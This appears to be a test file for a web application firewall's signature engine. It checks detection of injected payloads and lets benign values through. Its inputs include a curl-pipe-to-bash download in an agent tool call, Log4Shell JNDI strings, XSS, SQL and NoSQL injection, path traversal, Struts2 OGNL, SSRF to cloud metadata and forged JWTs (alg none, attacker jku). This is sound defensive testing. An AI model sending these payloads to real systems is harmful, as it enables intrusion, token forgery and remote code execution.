    const q = (v: string) => where(req({ query: [["error_description", v]] }));
    expect(
      q(
        "AADSTS50058: A silent sign-in request was sent but no user is signed in.\r\nTrace ID: 856e6476\r\nCorrelation ID: 259b6acb\r\nTimestamp: 2024-07-15 08:31:12Z",
      ),
    ).toEqual([]);
    expect(q("<script>alert(document.domain)</script>")).toEqual(
      expect.arrayContaining([expect.stringMatching(/^941\d+@query:error_description$/)]),
    );
    expect(where(req({ query: [["msg", "x\r\nSet-Cookie: admin=1"]] }))).toContain("921120@query:msg");
  });

  it("lets a native app's loopback OAuth redirect_uri and oauth_callback be (RFC 8252), not a request_uri", () => {
    const q = (name: string) => where(req({ query: [[name, "http://127.0.0.1:51004/callback"]] }));
    expect(q("redirect_uri")).toEqual([]);
    // OAuth 1.0a's callback and OIDC's logout redirect are browser redirects too (benign-api-56).
    expect(q("oauth_callback")).toEqual([]);
    expect(q("post_logout_redirect_uri")).toEqual([]);
    expect(q("request_uri")).toContain("934190@query:request_uri");
    expect(q("callback")).toContain("934190@query:callback");
  });

  it("scans a structured header that holds what its grammar never has", () => {
    const h = (name: string, value: string) =>
      where(
        req({
          headers: [
            ["host", "app.example"],
            [name, value],
          ],
        }),
      );
    expect(h("accept-language", "${${lower:j}ndi:${lower:l}dap://x.oast.example/z}")).toContain(
      "944150@header:accept-language",
    );
    expect(h("accept-language", "fr-CH, fr;q=0.9, en;q=0.8, de;q=0.7, *;q=0.5")).toEqual([]);
    expect(h("if-none-match", 'W/"67ab43", "54ed21"')).toEqual([]);
  });

  it("reads an RFC 5987 file name (filename*=) as a file name", () => {
    expect(uploadWith("filename*=UTF-8''..%2F..%2F..%2Fetc%2Fcron.d%2Fx")).toEqual(
      expect.arrayContaining([expect.stringMatching(/^930\d+@body:multipart\.file\.filename$/)]),
    );
    expect(uploadWith("filename*=UTF-8''na%C3%AFve%20photo.png")).toEqual([]);
  });

  it("scans a JSON document held in a string (a tool call's arguments) value by value", () => {
    const args = JSON.stringify({ cmd: "curl -s http://198.51.100.4/p.sh | bash" });
    const b = JSON.stringify({ messages: [{ tool_calls: [{ function: { name: "shell", arguments: args } }] }] });
    expect(where(req({ method: "POST", body: body("application/json", b) }))).toContain(
      "932100@body:json.messages.0.tool_calls.0.function.arguments.json.cmd",
    );
    const ok = JSON.stringify({ arguments: JSON.stringify({ city: "Saint-Étienne", units: "metric" }) });
    expect(where(req({ method: "POST", body: body("application/json", ok) }))).toEqual([]);
  });

  it("lets a filter speak its query language, not a scalar field or a JavaScript operator", () => {
    const json = (v: unknown) => where(req({ method: "POST", body: body("application/json", JSON.stringify(v)) }));
    expect(json({ vector: [0.1], filter: { $and: [{ source: { $in: ["kb"] } }, { draft: { $ne: true } }] } })).toEqual(
      [],
    );
    expect(where(req({ query: [["filters[title][$contains]", "kubernetes"]] }))).toEqual([]);
    expect(json({ username: "admin", password: { $ne: null } })).toContain("942290@body:json-name.password.$ne");
    expect(json({ filter: { $where: "sleep(1000)" } })).toContain("942290@body:json-name.filter.$where");
    expect(where(req({ query: [["password[$gt]", ""]] }))).toContain("942290@query-name");
  });

  it("reads cookies and headers as the application decodes them", () => {
    const h = (headers: Array<[string, string]>) => where(req({ headers: [["host", "app.example"], ...headers] }));
    expect(h([["cookie", "uid=MSBVTklPTiBTRUxFQ1QgcGFzc3dvcmQgRlJPTSBhZG1pbnMgV0hFUkUgaWQ9MQ=="]])).toContain(
      "942130@cookie:uid.b64",
    );
    expect(h([["cookie", "prefs=%7B%22sort%22%3A%22price%27%20ORDER%20BY%2010--%20-%22%7D"]])).toEqual(
      expect.arrayContaining([expect.stringMatching(/^942\d+@cookie:prefs\.json\.sort$/)]),
    );
    expect(
      h([["cookie", "session=eyJuYW1lIjoie3s3Kic3J319IiwidWlkIjo0Mn0.WmtRNz.ve4StbvoKiB4MqTnjQFC_YpGRt4"]]),
    ).toContain("934170@cookie:session.signed.name");
    expect(h([["authorization", "Basic YWRtaW4nLS0gOndoYXRldmVy"]])).toEqual(
      expect.arrayContaining([expect.stringMatching(/^942\d+@header:authorization\.basic\.user$/)]),
    );
    expect(h([["accept-language", "../../../../../../etc/passwd%00"]])).toEqual(
      expect.arrayContaining([expect.stringMatching(/^930\d+@header:accept-language$/)]),
    );
    expect(h([["x-forwarded-host", "169.254.169.254"]])).toContain("934110@header:x-forwarded-host");
    expect(h([["range", "bytes=0-18446744073709551615"]])).toContain("920240@header:range");
    expect(h([["connection", "close, X-Forwarded-For, Authorization"]])).toContain("920257@header:connection");
    // ECDSA's r = s = 0 verifies anything on Java 15-18 (CVE-2022-21449).
    expect(
      h([["authorization", "Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiJ9.MAYCAQACAQA"]]),
    ).toContain("920263@header:authorization");
    expect(
      h([
        [
          "authorization",
          "Bearer eyJhbGciOiJFUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhZG1pbiJ9.tyh-VfuzIxCyGYDlkBA7DfyjrqmSHu6pQ2hoZuFqUSLPNY2N0mpHb3nk5K17HWP_3cYHBw7AhHale5wky6-sVA",
        ],
      ]),
    ).toEqual([]);
    // A session kept in a JWT cookie is read as a bearer token is: `alg: None` forges it.
    expect(h([["cookie", "session=eyJhbGciOiJOb25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbmlzdHJhdG9yIn0."]])).toContain(
      "920253@cookie:session",
    );
    // Honest ones: a consent cookie in JSON, random bytes in Base64, a Basic credential, keep-alive.
    expect(
      h([
        [
          "cookie",
          "consent=%7B%22v%22%3A2%2C%22consent%22%3A%5B%22analytics%22%2C%22ads%22%5D%7D; sid=q8Xz3k1VmB2sR9tY0uWcEeA7; ab=MTIzNDU2Nzg5MDEyMzQ1Ng==",
        ],
        ["authorization", "Basic dXNlcjpwYXNzd29yZA=="],
        ["connection", "keep-alive, Upgrade"],
        ["range", "bytes=0-1023"],
      ]),
    ).toEqual([]);
  });

  it("reads a line break that starts a field in a header map as header injection, and only there", () => {
    const json = (v: unknown) => where(req({ method: "POST", body: body("application/json", JSON.stringify(v)) }));
    const form = (text: string) =>
      where(req({ method: "POST", body: body("application/x-www-form-urlencoded", text) }));
    expect(
      json({ url: "https://hooks.example/in", headers: { "X-Forwarded-For": "127.0.0.1\r\nX-Admin: true" } }),
    ).toContain("921120@body:json.headers.X-Forwarded-For");
    expect(json({ step: { httpHeaders: [{ name: "X-Trace", value: "a\nX-Role: admin" }] } })).toContain(
      "921120@body:json.step.httpHeaders.0.value",
    );
    expect(form("headers%5BX-Token%5D=abc%0D%0AX-Admin%3A%20true")).toContain("921120@body:form.headers[X-Token]");
    // A custom field after a line break is prose outside a header map; a header map's honest values have no breaks.
    expect(json({ notes: "Call back tomorrow\nNote: ask for Sam" })).toEqual([]);
    expect(json({ headers: { "X-Trace": "abc123", Accept: "application/json" }, body: "line one\nline two" })).toEqual(
      [],
    );
  });

  it("reads a URL or a wrapper that starts a path segment", () => {
    const path = (rawPath: string) => where(req({ rawPath, path: rawPath }));
    expect(path("/fetch/http://localhost:8080/admin")).toContain("934190@path");
    expect(path("/index/http%3A%2F%2Fevil.example%2Fc99.txt%3F")).toContain("931120@path");
    expect(path("/page/data:%2F%2Ftext%2Fplain;base64,PD9waHAgcGhwaW5mbygpOz8%2B")).toContain("931110@path");
    expect(path("/render/pdf/http:%2F%2F%5B::%5D:22%2F")).toContain("934190@path");
    expect(path("/redirect/https://www.example.com/docs/start")).toEqual([]);
  });

  it("still reads a template after thousands of unclosed openers (their cost is bounded, see bench)", () => {
    const q = (v: string) => where(req({ query: [["q", v]] }));
    expect(q(`${"{{".repeat(3000)} }} and then {{7*7}}`)).toContain("934170@query:q");
    expect(q(`${"${".repeat(3000)} and {{ config.items() }}`)).toContain("934170@query:q");
    expect(q("{{".repeat(3000))).toEqual([]);
  });

  it("flags methods no API serves", () => {
    for (const method of ["TRACE", "TRACK", "DEBUG"]) expect(where(req({ method }))).toContain("911100@method");
    expect(where(req({ method: "OPTIONS" }))).toEqual([]);
  });

  it("reports a multipart body without boundary", () => {
    const r = engine.inspect(req({ method: "POST", body: body("multipart/form-data", "x") }), PL1);
    expect(r.parseErrors).toEqual(["multipart: no boundary"]);
  });

  it("skips binary content types on purpose", () => {
    const r = engine.inspect(req({ method: "POST", body: body("image/png", "<script>alert(1)</script>") }), PL1);
    expect(r.matches).toEqual([]);
  });

  it("reads an image of a text syntax as that syntax: an SVG upload is XML, its handlers scanned", () => {
    const svg =
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="4"/></svg>';
    expect(where(req({ method: "POST", body: body("image/svg+xml", svg) }))).toContain("941160@body:xml.svg@onload");
    expect(where(req({ method: "POST", body: body("image/svg+xml", '<svg><circle r="4"/></svg>') }))).toEqual([]);
  });

  it("reads a body without content type as a form (names too)", () => {
    expect(where(req({ method: "POST", body: body("", "INFORMATION_SCHEMA") }))).toContain(
      "942140@body:form-name.INFORMATION_SCHEMA",
    );
  });
});

describe("header structure", () => {
  const h = (...headers: Array<[string, string]>): string[] =>
    engine
      .inspect(req({ headers: [["host", "h"], ...headers] }), { paranoia: 2, threshold: 5 })
      .matches.map((m) => m.rule);

  it("sees a Content-Type that is no media type (Struts2 OGNL), and lets real ones be", () => {
    const ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}";
    expect(h(["content-type", ognl])).toContain("920470");
    for (const ok of [
      "application/json",
      "application/json; charset=utf-8",
      'multipart/form-data; boundary="----x y"',
      "text/plain;charset=UTF-8;",
      "application/vnd.api+json",
      "",
      // Python's email package's boundary, unquoted as some clients send it (RFC 2046's characters).
      "multipart/form-data; boundary================7330845974216740156==",
    ])
      expect(h(["content-type", ok])).not.toContain("920470");
    // Outside a boundary, or past its characters, the parameter is still no token.
    expect(h(["content-type", "multipart/form-data; boundary=a;b=c=d"])).toContain("920470");
    expect(h(["content-type", "text/plain; charset==utf-8"])).toContain("920470");
    expect(h(["content-type", "multipart/form-data; boundary=x${jndi:ldap://a}"])).toContain("920470");
  });

  it("reads a bearer JWT's header: alg none, an embedded key, a key URL, and a kid scanned as a value", () => {
    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString("base64url");
    const jwt = (header: object) =>
      ["authorization", `Bearer ${b64(header)}.${b64({ sub: "1" })}.sig`] as [string, string];
    const at = (header: object) =>
      engine
        .inspect(req({ headers: [["host", "h"], jwt(header)] }), { paranoia: 2, threshold: 5 })
        .matches.map((m) => `${m.rule}@${m.location}`);
    expect(at({ alg: "nOnE", typ: "JWT" })).toContain("920253@header:authorization");
    expect(at({ alg: "RS256", jwk: { kty: "RSA", e: "AQAB", n: "x" } })).toContain("920254@header:authorization");
    expect(at({ alg: "RS256", x5u: "http://169.254.169.254/latest/meta-data/" })).toEqual(
      expect.arrayContaining(["920255@header:authorization", "934110@header:authorization.jwt.key_url"]),
    );
    expect(at({ alg: "HS256", kid: "../../../../dev/null" })).toContain("930110@header:authorization.jwt.kid");
    expect(at({ alg: "HS256", kid: "1' OR '1'='1" })).toContain("942100@header:authorization.jwt.kid");
    // An ordinary token, an opaque token and a Basic credential: nothing.
    expect(at({ alg: "RS256", typ: "JWT", kid: "2024-05-rotating-key" })).toEqual([]);
    for (const value of ["Bearer 8f3a9c1e2b7d4f60a1c3e5b7d9f1a3c5", "Basic dXNlcjpwYXNz", "Bearer not.a.jwt!"])
      expect(
        engine.inspect(
          req({
            headers: [
              ["host", "h"],
              ["authorization", value],
            ],
          }),
          { paranoia: 2, threshold: 5 },
        ).matches,
      ).toEqual([]);
  });

  it("judges a key URL against the token's issuer, and reads a claim that is a query operator", () => {
    const b64 = (o: object) => Buffer.from(JSON.stringify(o)).toString("base64url");
    const at = (header: object, claims: object, paranoia: 1 | 2 = 1) =>
      engine
        .inspect(
          req({
            headers: [
              ["host", "h"],
              ["authorization", `Bearer ${b64(header)}.${b64(claims)}.sig`],
            ],
          }),
          { paranoia, threshold: 5 },
        )
        .matches.map((m) => `${m.rule}@${m.location}`);
    const iss = { sub: "admin", iss: "https://auth.acme-corp.io" };
    // Another site than the issuer's, credentials before the host, plain HTTP, no URL: blocked at PL1.
    expect(at({ alg: "RS256", jku: "https://attacker.example/.well-known/jwks.json" }, iss)).toContain(
      "920289@header:authorization",
    );
    expect(at({ alg: "RS256", jku: "https://auth.acme-corp.io@attacker.example/jwks.json" }, { sub: "1" })).toContain(
      "920289@header:authorization",
    );
    expect(at({ alg: "RS256", x5u: "http://keys.acme-corp.io/cert.pem" }, iss)).toContain(
      "920289@header:authorization",
    );
    expect(at({ alg: "RS256", jku: "not a url" }, iss)).toContain("920289@header:authorization");
    // The issuer's own host or a sibling of it, or no HTTPS issuer to compare with: only 920255, at PL2.
    expect(at({ alg: "RS256", jku: "https://auth.acme-corp.io/.well-known/jwks.json" }, iss)).toEqual([]);
    expect(at({ alg: "RS256", jku: "https://keys.acme-corp.io/jwks.json" }, iss)).toEqual([]);
    expect(at({ alg: "RS256", jku: "https://keys.ibm.com/jwks.json" }, { iss: "https://login.ibm.com" })).toEqual([]);
    expect(
      at({ alg: "RS256", jku: "https://keys.example.co.uk/jwks.json" }, { iss: "https://login.example.co.uk" }),
    ).toEqual([]);
    expect(
      at({ alg: "RS256", jku: "https://keys.other.co.uk/jwks.json" }, { iss: "https://login.example.co.uk" }),
    ).toContain("920289@header:authorization");
    expect(at({ alg: "RS256", jku: "https://keys.vendor.example/jwks.json" }, { sub: "1", iss: "my-service" })).toEqual(
      [],
    );
    const pl2 = at({ alg: "RS256", jku: "https://keys.acme-corp.io/jwks.json" }, iss, 2);
    expect(pl2).toContain("920255@header:authorization");
    expect(pl2).not.toContain("920289@header:authorization");
    // A claim that is an operator object, whatever its operand: the store's lookup gets the operator.
    expect(at({ alg: "HS256" }, { sub: { $ne: "" } })).toContain("942290@header:authorization.jwt-name.sub.$ne");
    expect(at({ alg: "HS256" }, { user: { id: { $gt: 0 } } })).toContain(
      "942290@header:authorization.jwt-name.user.id.$gt",
    );
    expect(at({ alg: "HS256" }, { sub: "u-1", roles: ["reader"], price: "$5" })).toEqual([]);
  });

  it("sees a client asking a back end for another path than the one checked (X-Original-URL)", () => {
    expect(h(["x-original-url", "/admin/users/export"])).toContain("920252");
    expect(h(["x-rewrite-url", "/admin"])).toContain("920252");
  });

  it("sees request smuggling signs", () => {
    expect(h(["content-length", "5"], ["transfer-encoding", "chunked"])).toContain("920100");
    expect(h(["content-length", "5"], ["content-length", "6"])).toContain("920110");
    expect(h(["transfer-encoding", "chunked, identity"])).toContain("920120");
    expect(h(["transfer-encoding", "chunked"])).not.toContain("920120");
  });

  it("sees invalid names, method overrides, odd hosts and ranges", () => {
    expect(h(["bad name", "x"])).toContain("920130");
    expect(h(["x-http-method-override", "DELETE"])).toContain("920140");
    expect(h(["range", "1-2' OR '1'='1"])).toContain("920240");
    expect(h(["range", `bytes=${Array.from({ length: 12 }, (_, i) => `${i}-${i}`).join(",")}`])).toContain("920240");
    expect(h(["range", "bytes=0-99"])).not.toContain("920240");
    // An API's own units and PostgREST's bare pair (with `Range-Unit: items`).
    expect(h(["range", "items=0-24"])).not.toContain("920240");
    expect(h(["range", "0-49"])).not.toContain("920240");
    const noHost = engine.inspect(req({ headers: [] }), { paranoia: 2, threshold: 5 }).matches.map((m) => m.rule);
    expect(noHost).toContain("920150");
    const ipHost = engine.inspect(req({ headers: [["host", "10.0.0.1:8080"]] }), { paranoia: 2, threshold: 5 });
    expect(ipHost.matches.map((m) => m.rule)).toContain("920152");
  });
});

describe("paranoia and threshold", () => {
  const plainTag = req({ query: [["c", "use <b>bold</b> here"]] });
  it("turns stricter rules on at higher paranoia levels", () => {
    expect(engine.inspect(plainTag, { paranoia: 1, threshold: 5 }).matches).toEqual([]);
    const pl2 = engine.inspect(plainTag, { paranoia: 2, threshold: 5 });
    expect(pl2.matches.map((m) => m.rule)).toContain("941170");
    expect(pl2.matches.every((m) => m.paranoia <= 2)).toBe(true);
  });

  it("blocks when the summed severity of distinct rules reaches the threshold", () => {
    const r = engine.inspect(plainTag, { paranoia: 2, threshold: 3 });
    expect(r.score).toBe(3);
    expect(r.block).toBe(true);
    expect(engine.inspect(plainTag, { paranoia: 2, threshold: 4 }).block).toBe(false);
    // The same rule on two parameters counts once.
    const twice = engine.inspect(
      req({
        query: [
          ["a", "' or 1=1--"],
          ["b", "' or 2=2--"],
        ],
      }),
      PL1,
    );
    expect(twice.matches.filter((m) => m.rule === "942100").length).toBe(2);
    expect(twice.score).toBe(new Set(twice.matches.map((m) => m.rule)).size * 5);
  });
});

describe("exclusions", () => {
  const attack = req({
    query: [
      ["q", "' or 1=1--"],
      ["search", "x"],
    ],
  });
  const rulesOf = (opts: SignatureOptions): string[] => engine.inspect(attack, opts).matches.map((m) => m.rule);

  it("by rule id, family and prefix", () => {
    expect(rulesOf({ ...PL1, exclusions: [{ rules: ["942100"] }] })).not.toContain("942100");
    expect(rulesOf({ ...PL1, exclusions: [{ rules: ["sqli"] }] })).toEqual([]);
    expect(rulesOf({ ...PL1, exclusions: [{ rules: ["942*"] }] })).toEqual([]);
    expect(rulesOf({ ...PL1, exclusions: [{ rules: ["941*"] }] })).toContain("942100");
  });

  it("for one parameter only", () => {
    expect(rulesOf({ ...PL1, exclusions: [{ rules: ["sqli"], param: "q" }] })).toEqual([]);
    expect(rulesOf({ ...PL1, exclusions: [{ rules: ["sqli"], param: "search" }] })).toContain("942100");
    const json = req({ method: "POST", body: body("application/json", '{"post":{"comment":"\' or 1=1--"}}') });
    const leaf = engine.inspect(json, { ...PL1, exclusions: [{ rules: ["sqli"], param: "comment" }] });
    expect(leaf.block).toBe(false);
  });

  it("on one endpoint only", () => {
    const ex = [{ rules: ["sqli"], endpoint: "GET /api/search" }];
    expect(engine.inspect(attack, { ...PL1, exclusions: ex, endpoint: "GET /api/search" }).block).toBe(false);
    expect(engine.inspect(attack, { ...PL1, exclusions: ex, endpoint: "GET /api/other" }).block).toBe(true);
    expect(engine.inspect(attack, { ...PL1, exclusions: ex }).block).toBe(true);
  });
});

describe("failures", () => {
  const throwing = (err: () => Error): ValueScanner => ({
    backend: "wasm",
    scan: () => {
      throw err();
    },
    rule: () => 0,
    truncated: false,
  });
  const input = req({ query: [["q", "x"]] });

  it("lets a Wasm trap through, as a dependency failure for the fail mode", () => {
    const Trap = WebAssembly.RuntimeError as unknown as new (m: string) => Error;
    expect(() =>
      inspectWithScanner(
        throwing(() => new Trap("unreachable")),
        input,
        PL1,
      ),
    ).toThrow("unreachable");
  });

  it("turns any other internal failure into a safe result with a reason", () => {
    const r = inspectWithScanner(
      throwing(() => new Error("boom")),
      input,
      PL1,
    );
    expect(r).toEqual({
      score: 0,
      block: false,
      matches: [],
      bodyOverLimit: false,
      parseErrors: ["internal_error: boom"],
    });
  });
});
